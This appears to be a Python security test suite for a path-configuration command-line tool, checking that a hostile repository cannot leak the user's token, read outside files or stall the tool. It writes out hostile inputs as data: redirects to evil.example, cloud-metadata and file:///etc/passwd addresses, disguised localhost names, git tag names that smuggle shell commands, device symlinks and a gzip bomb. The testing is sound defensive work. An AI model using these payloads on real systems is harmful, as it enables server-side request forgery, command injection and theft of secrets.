"""What a repository can make the tool read, ask and send."""

import gzip
import itertools
import json
import os
import time

from harness import Editor, Server, attack, expect

RULES = '{"settings": {}, "rules": [{"patterns": ["/a$"], "properties": {"context": "modal"}}]}'
SECRET = "s3cr3t-of-the-user"
TOKEN = {"PATHCONFIG_TOKEN": SECRET}

# The roles in settings that are files of the project, each with an address.
ROLES = {
    "bundled": lambda address: {"apps": {"ios": {"bundled": address}}},
    "deployed": lambda address: {"apps": {"ios": {"deployed": address}}},
    "routes": lambda address: {"routes": address, "apps": {"ios": {"bundled": "ios.json"}}},
    "shipped": lambda address: {
        "apps": {"ios": {"bundled": "ios.json", "shipped": [
            {"version": "1", "client": "hotwire-native-ios@1.0", "bundled": address}]}}},
    "expectations": lambda address: {"expectations": address, "apps": {"ios": {"bundled": "ios.json"}}},
}


def with_headers(settings, address):
    """The settings with an app whose server has the address, and the user's token for it."""
    server = {"url": address, "headers": {"X-Key": "$PATHCONFIG_TOKEN"}}
    for app in list(settings["apps"].values()):
        app.setdefault("server", server)
    settings["apps"]["other"] = {"bundled": "ios.json", "server": server}
    return json.dumps(settings)


def type_in_editor(folder, env, name="ios.json"):
    """Opens a file in an editor and works on it."""
    with Editor(folder, env) as editor:
        document = {"uri": editor.uri(name)}
        editor.notify("textDocument/didOpen", {
            "textDocument": {**document, "languageId": "json", "version": 1, "text": RULES}})
        editor.findings(name)
        place = {"textDocument": document, "position": {"line": 0, "character": RULES.index("/a$")}}
        for method in ("textDocument/hover", "textDocument/completion", "textDocument/codeLens",
                       "textDocument/formatting"):
            editor.request(method, place)
        editor.notify("textDocument/didChange", {
            "textDocument": {**document, "version": 2}, "contentChanges": [{"text": RULES.replace("/a", "/b")}]})
        editor.findings(name)


@attack
def plain_lint_the_editor_and_init_ask_no_server(folder):
    with Server() as server:
        env = {**server.proxy, **TOKEN}
        for role, settings in ROLES.items():
            for address in ("https://evil.example/x", "http://evil.example/x", "HTTP://evil.example/x", server.url):
                folder.write("ios.json", RULES)
                folder.write(".pathconfig.json", with_headers(settings(address), address))
                run = folder.run("lint", env=env)
                expect(run.code, f"an address as {role} passes: {address}")
                folder.run("lint", "ios.json", env=env)
                type_in_editor(folder, env)
                os.remove(folder.path / ".pathconfig.json")
                folder.run("init", env=env)
                expect(not server.requests, f"{address} as {role} is asked: {server.requests}")
                os.remove(folder.path / ".pathconfig.json")


@attack
def plain_lint_sends_no_header_to_this_machine_and_follows_it_nowhere(folder):
    def answer(path):
        return 302, {"Location": "http://evil.example/next"}, b""

    with Server(answer) as here, Server() as elsewhere:
        proxy = {**elsewhere.proxy, "no_proxy": "127.0.0.1", **TOKEN}
        folder.write(".pathconfig.json", json.dumps({"apps": {"ios": {
            "deployed": "copy.json",
            "server": {"url": here.url + "/x", "headers": {"X-Key": "$PATHCONFIG_TOKEN"}}}}}))
        folder.run("lint", env=proxy, code=3)
        expect(len(here.requests) == 1, f"this machine is asked {len(here.requests)} times")
        expect(SECRET not in str(here.requests), "plain lint sends a header")
        expect(not elsewhere.requests, f"plain lint follows a redirect: {elsewhere.requests}")


@attack
def names_that_only_resemble_this_machine_are_not_asked(folder):
    with Server() as server:
        port = server.url.rsplit(":", 1)[1]
        for host in ("localhost.evil.example", "127.0.0.1.evil.example", "localhost@evil.example", "evil.example#localhost",
                     "evil.example?localhost", "127.1", "0x7f.1", "0", "[::ffff:127.0.0.1]", "localhost."):
            folder.write(".pathconfig.json", json.dumps({"apps": {"ios": {
                "deployed": "copy.json", "server": f"http://{host}:{port}/x"}}}))
            folder.run("lint", env=server.proxy)
            expect(not server.requests, f"{host} is asked: {server.requests}")


@attack
def expectations_that_settings_name_stay_in_the_repository(folder):
    folder.git("init", "--quiet", "own")
    folder.write("private.json", json.dumps({"settings": {}, "rules": [
        {"patterns": ["/a$"], "properties": {"note": SECRET}}]}))
    own = folder.path / "own"
    os.symlink("../private.json", own / "link.json")
    (own / "sub").mkdir()
    os.symlink("../../private.json", own / "sub" / "path-configuration.json")
    os.mkfifo(own / "pipe.json")
    folder.write("own/.pathconfig.json", '{"expectations": "e.json"}')
    with Server() as server:
        for name in ("../private.json", str(folder.path / "private.json"), "link.json", "sub", "pipe.json", "/dev/stdin",
                     "http://evil.example/x", "HTTP://evil.example/x", server.url, "git:HEAD:x", ["ios.json", "link.json"]):
            folder.write("own/ios.json", RULES)
            folder.write("own/e.json", json.dumps({
                "configuration": name, "clients": ["ios@1.3"], "expectations": {"/a": {"note": "x"}}}))
            run = folder.run("test", cwd=own, env={**server.proxy, **TOKEN}, code=(2, 3))
            expect(SECRET not in run.text, f"{name} is read: {run.text}")
            expect(not server.requests, f"{name} is asked")
        # The file that the user names is the user's own.
        for name in ("../private.json", "link.json", "sub"):
            folder.write("own/e.json", json.dumps({
                "configuration": name, "clients": ["ios@1.3"], "expectations": {"/a": {"note": "x"}}}))
            folder.run("test", "e.json", cwd=own, code=1)


@attack
def a_folder_that_settings_name_leads_nowhere_else(folder):
    folder.git("init", "--quiet", "own")
    folder.write("private/path-configuration.json", RULES.replace("modal", SECRET))
    own = folder.path / "own"
    (own / "sub").mkdir()
    os.symlink("../../private/path-configuration.json", own / "sub" / "path-configuration.json")
    folder.write("own/.pathconfig.json", '{"apps": {"ios": {"bundled": "sub", "clients": ["ios@1.3"]}}}')
    for command in (["lint"], ["query", "/a"], ["report"], ["merge", "@ios"], ["format"], ["lint", "--fix"]):
        run = folder.run(*command, cwd=own, code=2)
        expect(SECRET not in run.text, f"{command} reads it: {run.text}")


@attack
def the_source_of_another_project_is_not_read(folder):
    folder.git("init", "--quiet", "own")
    folder.write("private/Package.swift", 'let package = Package(dependencies: [.package(url: "https://github.com/hotwired/hotwire-native-ios", exact: "1.1.3")])')
    folder.write("private/ios.json", RULES)
    folder.write("own/a.json", RULES)
    folder.write("own/.pathconfig.json", '{"apps": {"x": {"deployed": "a.json", "bundled": "../private/ios.json"}}}')
    run = folder.run("query", "/a", "a.json", cwd=folder.path / "own", code=0)
    expect("1.1.3" not in run.text, f"the source is read: {run.text}")


PIPES = [
    "config/routes.rb", "config/routes/api.rb", "Gemfile", "Gemfile.lock", "sub/Package.swift", "sub/settings.gradle",
    "sub/settings.gradle.kts", "Package.swift", "Package.resolved", "project.yml", "settings.gradle", "build.gradle",
    "app/build.gradle.kts", "gradle/libs.versions.toml", "ios/Podfile.lock", "App.xcodeproj/project.pbxproj",
    "routes/web.php", "composer.json", "package.json", "config/routes.txt", "routes.txt", "app/controllers/path_controller.rb",
    "path-configuration.json", "ios/a.json", ".pathconfig.schema.json", ".github", ".gitlab-ci.yml",
    "app/controllers/hotwire/path_configurations_controller.rb", "app/views/configurations/ios_v1.json.erb",
    "ios/SceneDelegate.swift", "app/src/main/java/Main.kt",
]


@attack
def pipes_and_devices_in_a_repository_block_nothing(folder):
    def make_pipe(path):
        os.mkfifo(path)

    for number, make in enumerate([make_pipe, *(
            lambda path, device=device: os.symlink(device, path)
            for device in ("/dev/stdin", "/dev/zero", "/proc/self/fd/0"))]):
        root = folder.path / str(number)
        folder.write(f"{number}/ios/path-configuration.json", RULES)
        folder.write(f"{number}/app/controllers/other_controller.rb", "render json: { rules: [{ patterns: [] }] }")
        for name in PIPES:
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            make(path)
        reader, writer = os.pipe()
        for command in (["lint", "."], ["lint"], ["routes"], ["report"], ["init", "--dry-run"], ["test"],
                        ["query", "/a"], ["lint", "app/controllers/other_controller.rb"], ["format", "--dry-run"],
                        ["visit", "/a", "ios/path-configuration.json"], ["init"]):
            # Standard input stays open, so that reading it never ends.
            folder.run(*command, cwd=root, prepare=lambda: os.dup2(reader, 0))
        os.close(reader), os.close(writer)
        type_in_editor(type(folder)(root), {}, "ios/path-configuration.json")


@attack
def the_user_may_name_a_pipe(folder):
    folder.write("ios.json", RULES)
    for command in (["lint", "/dev/stdin"], ["query", "/a", "/dev/stdin"], ["merge", "/dev/stdin"]):
        folder.run(*command, stdin=RULES.encode(), code=0)
    folder.run("routes", "/dev/stdin", "ios.json", stdin=b"/a\n/b\n", code=0)
    folder.run("test", "/dev/stdin", "--source", "ios.json", code=0,
               stdin=b'{"clients": ["ios@1.3"], "expectations": {"/a": {"context": "modal"}}}')


def app_with_tags(folder):
    """Writes an app in a repository with a tag."""
    folder.write("ios/path-configuration.json", RULES)
    folder.write("public/ios_v1.json", RULES)
    folder.write(".pathconfig.json", json.dumps({"apps": {"ios": {
        "bundled": "ios/path-configuration.json", "deployed": "public/ios_v1.json", "server": "public/ios_v1.json",
        "shipped": [{"tags": "*", "client": "hotwire-native-ios@1.2"}]}}}))
    folder.git("init", "--quiet"), folder.git("add", "--all"), folder.git("commit", "-m", "a"), folder.git("tag", "v1.0")


@attack
def a_tag_that_is_not_utf_8_is_left_out(folder):
    app_with_tags(folder)
    head = folder.path / ".git/refs/tags/v1.0"
    for name in (b"v1.1\xff", b"\xc3\x28", b"v2\xed\xa0\x80"):
        with open(os.fsencode(folder.path) + b"/.git/refs/tags/" + name, "wb") as file:
            file.write(head.read_bytes())
    for name in ("-v3", "--upload-pack=touch pwned", "v4/x", "v5;touch pwned", "$(touch pwned)"):
        folder.git("update-ref", "refs/tags/" + name.replace(" ", "\u00a0"), "HEAD")
    run = folder.run("deploy", "@ios", "--current", "public/ios_v1.json", code=0)
    expect("v1.1" in run.text and "not UTF-8" in run.text, f"nothing says that a tag is left out: {run.text}")
    folder.run("lint")
    expect(not list(folder.path.rglob("pwned")), "a name is run")


@attack
def pipes_beside_the_git_folder_block_nothing(folder):
    app_with_tags(folder)
    for name in (".gitattributes", ".gitmodules", ".mailmap"):
        os.symlink("/dev/stdin", folder.path / name)
    reader, writer = os.pipe()
    for command in (["lint"], ["deploy", "@ios", "--current", "git:v1.0:public/ios_v1.json"],
                    ["query", "/a", "git:v1.0:ios/path-configuration.json"]):
        folder.run(*command, prepare=lambda: os.dup2(reader, 0))
    os.close(reader), os.close(writer)


@attack
def a_line_feed_in_a_revision_reads_no_other_file(folder):
    app_with_tags(folder)
    folder.write("private.json", RULES)
    for name in ("git:v1.0:ios/path-configuration.json\n", "git:v1.0:ios/path-configuration.json\nHEAD:x",
                 "git:v1.0\n:x", "git:--help:x", "git:v1.0:\n"):
        folder.run("query", "/a", name, code=(2, 3))


@attack
def redirects_lead_to_no_file_and_no_private_address(folder):
    folder.write("secret.json", RULES.replace("modal", SECRET))
    with Server() as private:
        port = private.url.rsplit(":", 1)[1]
        for location in (
                f"file://{folder.path}/secret.json", "FILE:///etc/passwd", "gopher://evil.example/", "ftp://evil.example/",
                "dict://127.0.0.1:1/", "javascript:1", "", " ", "//", "http://", "http://\x01/", f"http://127.0.0.1:{port}/",
                f"http://127.1:{port}/", f"http://0x7f000001:{port}/", f"http://2130706433:{port}/", f"http://0:{port}/",
                f"http://[::1]:{port}/", f"http://[::ffff:7f00:1]:{port}/", f"http://me:x@127.0.0.1:{port}/",
                "http://169.254.169.254/latest/meta-data", "http://10.0.0.1/", "/" * 100_000):
            with Server(lambda path, to=location: (302, {"Location": to}, b"")) as proxy:
                run = folder.run("lint", "http://evil.example/x", "--timeout", "5", "-H", "X-Key: $PATHCONFIG_TOKEN",
                                 env={**proxy.proxy, **TOKEN}, code=3)
                expect(SECRET not in run.text, f"{location[:99]} is read: {run.text}")
                expect(all("evil" in path for path, _ in proxy.requests) or len(location) > 99,
                       f"{location[:99]} is followed: {proxy.requests}")
        expect(not private.requests, f"a private address is asked: {private.requests}")


@attack
def answers_without_end_or_measure_end(folder):
    bomb = gzip.compress(bytes(1 << 30), 6)
    plain = {"Content-Type": "application/json"}
    packed = {**plain, "Content-Encoding": "gzip"}

    def slowly(pieces):
        for piece in pieces:
            time.sleep(0.3)
            yield piece

    answers = {
        "a bomb": (200, packed, bomb),
        "a bomb in a bomb": (200, {**plain, "Content-Encoding": "gzip, gzip"}, gzip.compress(bomb)),
        "no gzip": (200, packed, b"{" * 100_000),
        "endless chunks": (200, {**plain, "Transfer-Encoding": "chunked"}, itertools.repeat(b"10000\r\n" + b" " * 65536 + b"\r\n")),
        "slow chunks": (200, {**plain, "Transfer-Encoding": "chunked"}, slowly(itertools.repeat(b"1\r\n \r\n"))),
        "a huge chunk": (200, {**plain, "Transfer-Encoding": "chunked"}, b"ffffffffffffffff\r\n" + b" " * 1000),
        "an endless body": (200, plain, itertools.repeat(b" " * 65536)),
        "a slow body": (200, plain, slowly(itertools.repeat(b" "))),
        "a long head": (200, {**plain, "X-A": "a" * (10 << 20)}, RULES.encode()),
        "many fields": (200, {**plain, **{f"X-{place}": "a" * 100 for place in range(100_000)}}, RULES.encode()),
        "a long type": (200, {"Content-Type": "a" * 200_000}, RULES.encode()),
        "a wrong length": (200, {**plain, "Content-Length": "99999999999999999999"}, RULES.encode()),
        "a negative length": (200, {**plain, "Content-Length": "-1"}, RULES.encode()),
        "a circle": (302, {"Location": "/x"}, b""),
        "a status of nobody": (999, plain, RULES.encode()),
        "an echo": (500, plain, SECRET.encode() * 1000),
    }
    for what, given in answers.items():
        with Server(lambda path, given=given: given) as server:
            for command in (["lint", server.url + "/x"], ["query", "/a", server.url + "/x"]):
                run = folder.run(*command, "--timeout", "3", "-H", "X-Key: $PATHCONFIG_TOKEN", env=TOKEN)
                expect(SECRET not in run.text, f"{what}: a secret is printed")
                if what not in ("a long type", "a status of nobody", "an echo", "a negative length"):
                    expect(run.code == 3, f"{what}: {command[0]} ends with {run.code}: {run.text[-300:]}")
